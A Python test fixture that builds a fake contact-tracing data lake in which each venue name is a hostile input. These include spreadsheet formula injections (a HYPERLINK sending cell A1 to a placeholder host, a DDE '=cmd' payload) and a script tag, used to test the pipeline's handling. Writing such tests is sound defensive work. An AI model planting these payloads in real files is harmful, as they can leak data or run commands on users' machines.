"""A small lake with hostile texts, made by the pipeline, so that its vault can be opened."""

import csv
import json
from pathlib import Path

from pipelines.drivers.run import run

NOW_US = 1_628_380_800_000_000  # 2021-08-08
PHONES = {
    name: f"phone:09051112{number:02}" for number, name in enumerate(("an", "binh", "chi", "dung", "em"))
}
HOSTILE = (
    '=HYPERLINK("http://x?"&A1)',
    "=cmd|'/c calc'!A0",
    "<script>alert(1)</script>",
    "＝1+1",
    "@SUM(1) & <b>",
    "Chợ Thu Lộ\\hàng 'A' \"B\"",
)
"""Names of venues; the last is written in decomposed Unicode too."""

CASE, OTHER_CASE = "BN-1", "BN-2"


def venue_code(number: int) -> str:
    return f"V{number}"


def make_lake(folder: Path, people: int = 4) -> str:
    """Make a lake of one case who met `people` others, each at a venue with a hostile name."""
    with open(folder / "venues.csv", "w", newline="", encoding="utf-8") as file:
        writer = csv.writer(file)
        writer.writerow(["venue", "name", "type", "district_code", "province_code"])
        for number, name in enumerate(HOSTILE):
            writer.writerow([venue_code(number), name, "shop", "522", "51"])
    scans = []
    others = [name for name in PHONES if name != "an"][:people]
    for number in range(len(HOSTILE)):
        for name in ("an", others[number % len(others)]) if others else ("an",):
            for direction, minute in (("in", 0), ("out", 40)):
                scans.append(
                    {
                        "person": PHONES[name],
                        "venue": venue_code(number),
                        "direction": direction,
                        "occurred_at": f"2021-08-05T{8 + number:02}:{minute:02}:00+07:00",
                    }
                )
    (folder / "scans.ndjson").write_text("".join(json.dumps(scan) + "\n" for scan in scans))
    (folder / "cases.csv").write_text(
        f"case_id,person,onset_at\n{CASE},{PHONES['an']},2021-08-06\n{OTHER_CASE},{PHONES['em']},\n"
    )
    lake = str(folder / "lake")
    run(
        lake,
        [str(folder / "scans.ndjson")],
        venues=[str(folder / "venues.csv")],
        cases=[str(folder / "cases.csv")],
        now_us=NOW_US,
    )
    return lake
